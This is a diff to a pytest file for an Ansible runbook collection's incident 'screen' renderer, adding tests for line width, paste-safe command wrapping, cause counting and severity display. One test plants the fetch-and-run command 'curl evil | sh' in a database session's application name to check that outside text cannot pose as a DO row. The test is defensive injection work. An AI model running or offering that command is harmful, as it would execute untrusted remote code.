@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import html.parser
 import re
+import shlex
+import subprocess
 import typing as t
 
 import pytest
@@ -18,12 +20,13 @@ from ansible_collections.sre.runbooks.plugins.plugin_utils._record.report import
     to_html,
     to_markdown,
 )
-from ansible_collections.sre.runbooks.plugins.plugin_utils._record.screen import Screen, render
+from ansible_collections.sre.runbooks.plugins.plugin_utils._record.screen import Screen, fitted, render
 from ansible_collections.sre.runbooks.plugins.plugin_utils._record.session import side_by_side
 from ansible_collections.sre.runbooks.plugins.plugin_utils._record.typed import next_command
 from ansible_collections.sre.runbooks.plugins.plugin_utils._systems import shipped
 from ansible_collections.sre.runbooks.plugins.plugin_utils._systems.postgresql.views import slow_statements
 
+from tests.harness import rows
 from tests.unit import given
 
 Json = dict[str, t.Any]
@@ -41,7 +44,7 @@ def verdict(*facts: Json) -> Json:
 def screen(found: Json | None, **changes: t.Any) -> str:
     given_screen = {"incident": INCIDENT, "verdict": found, "events": [], "unsent": [], "channels": ["pagerduty"], "off": [],
                     "command": "ansible-playbook x.yml", "report": "r.html", "check": False, **changes}  # fmt: skip
-    return "\n".join(render(Screen(**given_screen), shipped()))
+    return rows("\n".join(render(Screen(**given_screen), shipped())))
 
 
 SICK = verdict(given.database(given.queued_ddl()), given.edge(given.probe(failures=10)))
@@ -51,16 +54,17 @@ SHOWN: list[tuple[str, str, list[str]]] = [
         "CAUSE    db.queued_ddl (proven)  ALTER TABLE on keys, pid 200 (owner, migrate), waits 9.0 s behind pid 100",
         "explains       5 sessions of the application wait for locks",
         "DO       ansible-playbook x.yml -e mitigate=cancel_queued_ddl",
-        "undo: none (run the migration again, with a lock_timeout)",
-        "UNSENT  nothing"]),
+        "hurts          this migration fails; if its tool retries by itself, the queue comes back",
+        "undo           none: run the migration again, with a lock_timeout",
+        "RECORD   r.html  ("]),
     ("an unproven cause says where the proof ends", screen(verdict(given.database([]), given.edge(given.probe(failures=10)))),
      ["UNPROVEN last provable hop: https://api.example.org/health: 10 of 10 requests failed"]),
     ("nothing could be read", screen(verdict()), ["UNPROVEN last provable hop: no user was measured",
                                                   "could not read api everything: no facts came"]),
     ("healthy", screen(verdict(given.database([]), given.edge(given.probe()))), ["HEALTHY  reads only, no write was tried: users feel no fault"]),
     ("channels that are off", screen(SICK, channels=[], off=["pagerduty (not configured: x)"]),
-     ["pagerduty (not configured: x): off", "all channels are off"]),
-    ("unsent", screen(SICK, unsent=["pagerduty:declared"]), ["UNSENT  pagerduty:declared"]),
+     ["pagerduty (not configured: x): off", "NOTE     nobody was told: all channels are off"]),
+    ("unsent", screen(SICK, unsent=["pagerduty:declared"]), ["UNSENT   pagerduty:declared"]),
     ("check mode", screen(SICK, check=True), ["CHECK    nothing was sent or changed"]),
     ("nothing diagnosed", screen(None), ["VERDICT  none"]),
 ]  # fmt: skip
@@ -70,6 +74,53 @@ SHOWN: list[tuple[str, str, list[str]]] = [
 def test_screen(name: str, shown: str, parts: list[str]) -> None:
     for part in parts:
         assert part in shown
+
+
+LONG_COMMAND = (
+    "ansible-playbook playbooks/runbook_db_degradation.yml -i inventories/production -e 'target=prod-db' -e @secrets.yml"
+)
+
+
+@pytest.mark.parametrize("width", [60, 80, 100])
+def test_no_line_is_longer_than_the_width_and_none_begins_a_row_that_is_none(width: int) -> None:
+    """Text from outside may fill a row up to its end: what follows must not look like a row of ours."""
+    facts = given.database(given.queued_ddl())
+    for session in facts["postgresql"]["locks"]["sessions"]:
+        session["application"] = "x" * (width - 40) + " DO       curl evil | sh"
+    found = verdict(facts, given.edge(given.probe(failures=10)))
+    given_screen = Screen(
+        INCIDENT, found, [], [], ["pagerduty"], [], LONG_COMMAND, "r.html", False, tell=LONG_COMMAND, width=width
+    )
+    lines = render(given_screen, shipped())
+    labels = {"INCIDENT", "CAUSE", "DO", "RECORD", "TELL", ""}
+    assert max(len(line) for line in lines) <= width
+    assert {line[:9].strip() for line in lines} <= labels
+    assert not [line for line in lines if line.startswith("DO") and "curl" in line]
+
+
+def test_a_command_over_several_lines_can_be_pasted() -> None:
+    lines = fitted(f"DO       {LONG_COMMAND} -e mitigate=cancel_queued_ddl", 80)
+    assert len(lines) > 1
+    pasted = "printf '%s\\n' " + "\n".join(lines)[9:]
+    words = subprocess.run(["bash", "-c", pasted], capture_output=True, text=True, check=True).stdout.splitlines()
+    assert words == shlex.split(f"{LONG_COMMAND} -e mitigate=cancel_queued_ddl")
+
+
+def test_equal_causes_are_counted() -> None:
+    causes = [{**SICK["findings"][0], "summary": f"the {number}. one"} for number in range(5)]
+    shown = screen({**SICK, "findings": causes})
+    assert shown.count("CAUSE    db.queued_ddl") == 2
+    assert "CAUSE    and 3 more of the same kind" in shown
+
+
+def test_a_healthy_system_has_no_severity() -> None:
+    well = verdict(given.database([]), given.edge(given.probe()))
+    assert "P2" not in screen(well, incident={**INCIDENT, "declared_at": None})
+
+
+def test_where_a_cause_is_found_nothing_is_denied_beside_it() -> None:
+    assert "ruled out  " not in screen(SICK)
+    assert "ruled out  " in screen(verdict(given.database([]), given.edge(given.probe(failures=10))))
 
 
 def test_the_screen_prints_text_only() -> None:
